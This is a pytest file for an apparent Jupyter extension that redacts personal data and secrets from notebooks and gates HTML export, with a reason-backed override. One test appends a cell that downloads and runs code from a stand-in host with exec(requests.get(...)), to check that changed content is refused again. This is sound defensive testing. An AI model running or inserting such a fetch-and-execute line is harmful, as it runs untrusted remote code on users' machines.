"""POST redact and what lets a refused export through, on a real server."""

from __future__ import annotations

import json
from pathlib import Path

import nbformat
import pytest
from tornado.httpclient import HTTPClientError

from jupyter_secai.gate import ExportRefused, SecaiGatePreprocessor

PATH = "nb.ipynb"
SESSION = "a" * 16
ADDRESS = "alma.stone" + "@" + "post.example.org"
NAMES = ["Alma Stone", "Bruno Field", "Carla Brook"]
TABLE = "\n".join(
    ["       name                email  age"]
    + [
        f"{row}  {name}  {name.lower().replace(' ', '.')}@post.example.org   {row + 30}"
        for row, name in enumerate(NAMES)
    ]
)
HTML = (
    "<table><tr><th>name</th><th>email</th></tr>"
    + "".join(
        f"<tr><td>{name}</td><td>{name.lower().replace(' ', '.')}@post.example.org</td></tr>"
        for name in NAMES
    )
    + "</table>"
)


@pytest.fixture
def jp_server_config():
    return {"ServerApp": {"jpserver_extensions": {"jupyter_secai": True}}}


@pytest.fixture(autouse=True)
def stored(jp_root_dir, bad_notebook):
    """The bad notebook under the contents root."""
    file = Path(jp_root_dir, PATH)
    file.write_text(json.dumps(bad_notebook), encoding="utf-8")
    return file


@pytest.fixture
def post(jp_fetch, bad_notebook):
    """Posts a notebook, the bad one unless another is given; gives the parsed answer."""

    async def send(endpoint, **changes):
        body = {"session": SESSION, "path": PATH, "generation": 1, **bad_notebook, **changes}
        answer = await jp_fetch("jupyter-secai", endpoint, method="POST", body=json.dumps(body))
        return json.loads(answer.body)

    return send


@pytest.fixture
def decide(jp_fetch):
    """Posts an act on no entry; gives the new entry."""

    async def send(act):
        body = json.dumps({"path": PATH, "entry": None, "act": act})
        answer = await jp_fetch("jupyter-secai", "decide", method="POST", body=body)
        return json.loads(answer.body)["entry"]

    return send


def anyway(gate):
    return {
        "kind": "export",
        "subject": "nbconvert",
        "decision": "anyway",
        "reason": "for the auditors, who know it",
        "evidence": gate["evidence"],
    }


def shown_people():
    output = {"output_type": "execute_result", "execution_count": 1, "metadata": {}}
    data = {"text/plain": TABLE, "text/html": HTML}
    cell = {"id": "shown", "cell_type": "code", "source": "people.head()", "metadata": {}}
    return [
        {"id": "first", "cell_type": "code", "source": "x = 1", "metadata": {}, "outputs": []},
        {**cell, "execution_count": 1, "outputs": [{**output, "data": data}]},
    ]


async def test_masking_gives_the_changed_cells_in_all_their_versions(post, stored):
    before = stored.read_bytes()
    answer = await post("redact", cells=shown_people())
    assert [cell["id"] for cell in answer["cells"]] == ["shown"]
    [output] = answer["cells"][0]["outputs"]
    assert set(output["data"]) == {"text/plain", "text/html"}
    for name in NAMES:
        assert name not in json.dumps(answer)
        assert name.lower().replace(" ", ".") not in json.dumps(answer)
    assert answer["metadata"] is None
    assert {row["entity"] for row in answer["masked"]} >= {"EMAIL", "PERSON"}
    assert stored.read_bytes() == before


async def test_masking_takes_a_secret_out_of_the_source(post, secret):
    answer = await post("redact")
    assert secret not in json.dumps(answer)
    assert "[SECRET]" in "".join(answer["cells"][0]["source"])


async def test_masking_changes_nothing_where_nothing_is_found(post, make_notebook):
    answer = await post("redact", **make_notebook("x = 1"))
    assert (answer["cells"], answer["metadata"], answer["masked"]) == ([], None, [])


async def test_masking_uses_the_cells_that_are_held(post):
    cells = shown_people()
    await post("review", cells=cells)
    answer = await post("redact", cells=[{"id": "first"}, {"id": "shown"}])
    assert [cell["id"] for cell in answer["cells"]] == ["shown"]


async def test_a_refused_export_goes_through_with_a_reason(post, decide, bad_notebook, stored, jp_fetch):
    gate = (await post("review"))["gate"]
    assert gate["blocked"]
    assert gate["may_let_through"]
    with pytest.raises(HTTPClientError):
        await jp_fetch("nbconvert", "html", PATH)
    entry = await decide(anyway(gate))
    decided = {**bad_notebook, "metadata": {**bad_notebook["metadata"], "secai": entry}}
    again = (await post("review", **decided))["gate"]
    assert not again["blocked"]
    assert again["evidence"] == gate["evidence"]
    assert "person's decision" in again["sentence"]
    stored.write_text(json.dumps(decided), encoding="utf-8")
    assert (await jp_fetch("nbconvert", "html", PATH)).code == 200


@pytest.fixture
def node(bad_notebook, tmp_path):
    """The bad notebook with a decision on `findings` more than there are, and its preprocessor's resources."""

    def make(entry):
        made = nbformat.from_dict({**bad_notebook, "metadata": {**bad_notebook["metadata"], "secai": entry}})
        return made, {"metadata": {"name": "nb", "path": str(tmp_path)}}

    return make


async def test_the_reason_holds_for_what_it_was_given_for(post, decide, node):
    entry = await decide(anyway((await post("review"))["gate"]))
    SecaiGatePreprocessor().preprocess(*node(entry))
    changed, resources = node(entry)
    changed.cells.append(
        nbformat.v4.new_code_cell("import requests\nexec(requests.get('http://a.example').text)")
    )
    with pytest.raises(ExportRefused):
        SecaiGatePreprocessor().preprocess(changed, resources)


async def test_a_reason_that_was_written_by_hand_does_not_count(post, decide, node):
    entry = await decide(anyway((await post("review"))["gate"]))
    entry["exports"]["nbconvert"]["reason"] = "another"
    with pytest.raises(ExportRefused):
        SecaiGatePreprocessor().preprocess(*node(entry))


@pytest.mark.parametrize("key", ["allow-export-anyway", "notebook-decisions"])
async def test_a_policy_takes_the_way_out_away(post, decide, node, tmp_path, stored, key):
    entry = await decide(anyway((await post("review"))["gate"]))
    for folder in (tmp_path, stored.parent):
        (folder / "secai.toml").write_text(f"{key} = false\n", encoding="utf-8")
    assert not (await post("review"))["gate"]["may_let_through"]
    with pytest.raises(ExportRefused):
        SecaiGatePreprocessor().preprocess(*node(entry))
